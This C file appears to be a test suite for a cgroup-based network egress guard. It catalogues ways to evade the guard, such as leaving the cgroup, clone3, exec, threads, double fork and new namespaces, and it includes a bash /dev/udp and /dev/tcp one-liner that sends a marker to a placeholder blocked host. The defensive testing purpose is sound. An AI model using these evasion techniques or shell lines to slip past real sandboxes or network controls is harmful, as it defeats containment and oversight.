// SPDX-License-Identifier: GPL-2.0-only
/* Processes that leave the cgroup, or become another one. */
#include "trick.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static void everything(void)
{
	int udp = open_for(BAD4, SOCK_DGRAM, 0), tcp = open_for(BAD4, SOCK_STREAM | SOCK_NONBLOCK, 0);

	send_to(udp, BAD4, BAD_PORT);
	connect_to(udp, BAD4, BAD_PORT);
	(void)send(udp, MARK, MARK_LEN, 0);
	connect_to(tcp, BAD4, BAD_PORT);
	finish_stream(tcp);
}

static const char *move_self(void)
{
	enter(outside);
	everything();
	return NULL;
}

static const char *move_self_mptcp(void)
{
	int fd;

	enter(outside);
	fd = open_for(BAD4, SOCK_STREAM | SOCK_NONBLOCK, IPPROTO_MPTCP);
	if (fd < 0)
		return missing("socket");
	connect_to(fd, BAD4, BAD_PORT);
	finish_stream(fd);
	return NULL;
}

static const char *move_self_raw(void)
{
	int fd;

	enter(outside);
	fd = open_for(BAD4, SOCK_RAW, 253);
	if (fd < 0)
		return missing("socket");
	send_to(fd, BAD4, 0);
	return NULL;
}

/* The socket was made inside. */
static const char *move_with_socket(void)
{
	int fd = open_for(BAD4, SOCK_DGRAM, 0);

	enter(outside);
	send_to(fd, BAD4, BAD_PORT);
	connect_to(fd, BAD4, BAD_PORT);
	(void)send(fd, MARK, MARK_LEN, 0);
	return NULL;
}

static const char *move_then_fork(void)
{
	pid_t pid;

	enter(outside);
	pid = fork();
	if (!pid) {
		if (!fork())
			everything();
		else
			wait(NULL);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	return NULL;
}

static const char *move_above(void)
{
	char up[4096];

	snprintf(up, sizeof(up), "%s/..", guard);
	enter(up);
	everything();
	return NULL;
}

/* The child that does it has left before. */
static const char *move_parent(void)
{
	char path[4096], number[16];
	pid_t pid = fork();

	if (!pid) {
		int fd;

		enter(outside);
		snprintf(path, sizeof(path), "%s/cgroup.procs", outside);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		snprintf(number, sizeof(number), "%d", getppid());
		_exit(write(fd, number, strlen(number)) < 0);
	}
	waitpid(pid, NULL, 0);
	everything();
	return NULL;
}

static const char *clone_into(void)
{
	struct clone_args a = {.flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD};
	int fd = open(outside, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	pid_t pid;

	a.cgroup = (uint64_t)fd;
	pid = (pid_t)syscall(SYS_clone3, &a, sizeof(a));
	if (pid < 0)
		return missing("CLONE_INTO_CGROUP");
	if (!pid) {
		everything();
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	return NULL;
}

static const char *move_then_exec(void)
{
	char self[4096];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	pid_t pid = fork();

	if (!pid) {
		self[n > 0 ? n : 0] = 0;
		enter(outside);
		execl(self, self, "exec-target", guard, outside, (char *)NULL);
		_exit(1);
	}
	waitpid(pid, NULL, 0);
	return NULL;
}

/* What others execute. */
static const char *exec_target(void)
{
	everything();
	return NULL;
}

static const char *new_namespace(int flags, const char *what)
{
	if (unshare(flags))
		return missing(what);
	everything();
	return NULL;
}

static const char *user_ns(void)
{
	return new_namespace(CLONE_NEWUSER, "user namespace");
}

static const char *mount_ns(void)
{
	return new_namespace(CLONE_NEWNS, "mount namespace");
}

static const char *pid_ns(void)
{
	pid_t pid;

	if (unshare(CLONE_NEWPID))
		return missing("pid namespace");
	pid = fork();
	if (!pid) {
		everything();
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	return NULL;
}

/* Sees the guarded cgroup as the root, mounts the hierarchy again, and moves about in it. */
static const char *cgroup_ns(void)
{
	char dir[] = "/tmp/bypass.XXXXXX", sub[64];

	if (unshare(CLONE_NEWCGROUP | CLONE_NEWNS))
		return missing("cgroup namespace");
	if (!mkdtemp(dir) || mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("none", dir, "cgroup2", 0, NULL)) {
		rmdir(dir);
		return missing("cgroup2 mount");
	}
	snprintf(sub, sizeof(sub), "%s/sub", dir);
	mkdir(sub, 0755);
	enter(sub);
	everything();
	enter(dir);
	rmdir(sub);
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	return NULL;
}

/* The socket belongs to the old network namespace, its user to a new one. */
static const char *net_ns_old_socket(void)
{
	int fd = open_for(BAD4, SOCK_DGRAM, 0);

	if (unshare(CLONE_NEWNET))
		return missing("net namespace");
	send_to(fd, BAD4, BAD_PORT);
	connect_to(fd, BAD4, BAD_PORT);
	(void)send(fd, MARK, MARK_LEN, 0);
	return NULL;
}

static void *in_thread(void *arg)
{
	(void)arg;
	everything();
	return NULL;
}

static const char *thread(void)
{
	pthread_t t;

	if (!pthread_create(&t, NULL, in_thread, NULL))
		pthread_join(t, NULL);
	return NULL;
}

/* The first thread ends, the others go on. */
static void *leaderless(void *arg)
{
	(void)arg;
	nap(30);
	everything();
	_exit(0);
}

static const char *leader_gone(void)
{
	pid_t pid = fork();

	if (!pid) {
		pthread_t t;

		pthread_create(&t, NULL, leaderless, NULL);
		pthread_exit(NULL);
	}
	waitpid(pid, NULL, 0);
	return NULL;
}

static const char *double_fork(void)
{
	int p[2];
	char byte;

	if (pipe2(p, O_CLOEXEC))
		return "no pipe";
	if (!fork()) {
		setsid();
		if (!fork()) {
			nap(20);
			everything();
			_exit((int)write(p[1], "x", 1));
		}
		_exit(0);
	}
	wait(NULL);
	close(p[1]);
	(void)!read(p[0], &byte, 1);
	return NULL;
}

static const char *vforked(void)
{
	char self[4096];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	pid_t pid;

	self[n > 0 ? n : 0] = 0;
	pid = (pid_t)syscall(SYS_clone, CLONE_VFORK | SIGCHLD, NULL, NULL, NULL, 0);
	if (!pid) {
		execl(self, self, "exec-target", guard, outside, (char *)NULL);
		_exit(1);
	}
	waitpid(pid, NULL, 0);
	return NULL;
}

static const char *by_shell(void)
{
	(void)!system("bash -c 'echo " MARK " >/dev/udp/" BAD4
		      "/7009; timeout 0.2 bash -c \"echo >/dev/tcp/" BAD4 "/7009\"' 2>/dev/null");
	return NULL;
}

const struct trick tricks_move[] = {
	{"move-self-out", move_self, 0, NULL},
	{"move-self-out-mptcp", move_self_mptcp, 0, NULL},
	{"move-self-out-raw", move_self_raw, 0, NULL},
	{"move-out-with-socket", move_with_socket, 0, NULL},
	{"move-self-out-then-fork", move_then_fork, 0, NULL},
	{"move-self-above", move_above, 0, NULL},
	{"child-moves-parent", move_parent, 0, NULL},
	{"clone-into-cgroup", clone_into, 0, NULL},
	{"move-self-out-then-exec", move_then_exec, 0, NULL},
	{"exec-target", exec_target, TRICK_HERE, NULL},
	{"user-namespace", user_ns, 0, NULL},
	{"mount-namespace", mount_ns, 0, NULL},
	{"pid-namespace", pid_ns, 0, NULL},
	{"cgroup-namespace", cgroup_ns, 0, NULL},
	{"net-namespace-old-socket", net_ns_old_socket, 0, NULL},
	{"thread", thread, 0, NULL},
	{"thread-without-leader", leader_gone, 0, NULL},
	{"daemon", double_fork, 0, NULL},
	{"vfork-exec", vforked, 0, NULL},
	{"shell", by_shell, 0, NULL},
	{NULL, NULL, 0, NULL},
};
